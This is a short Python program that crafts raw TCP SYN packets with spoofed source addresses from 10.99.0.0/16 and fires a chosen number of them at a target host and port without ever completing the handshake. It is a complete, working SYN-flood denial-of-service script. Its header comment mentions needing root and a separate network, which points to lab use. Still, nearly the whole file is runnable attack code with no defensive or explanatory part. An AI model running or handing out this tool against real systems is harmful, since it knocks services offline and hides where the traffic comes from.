# SPDX-License-Identifier: MIT
# A program that begins TCP connections and never ends the handshake: HOST PORT COUNT, from addresses of 10.99.0.0/16 that nobody has, and where nobody
# says so. Wants root, and a network of its own.

import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, port):
    """An IPv4 packet; the system fills in length and checksum of its head (raw(7))."""
    tcp = struct.pack("!HHIIBBHHHBBH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 6 << 4, 2, 64240, 0, 0, 2, 4, 1460)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    target, first = socket.inet_aton(host), int(ipaddress.ip_address("10.99.0.1"))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(count):
            raw.sendto(syn(struct.pack("!I", first + number % 60000), target, port), (host, 0))
            if number % 100 == 99:
                time.sleep(0.01)


main()
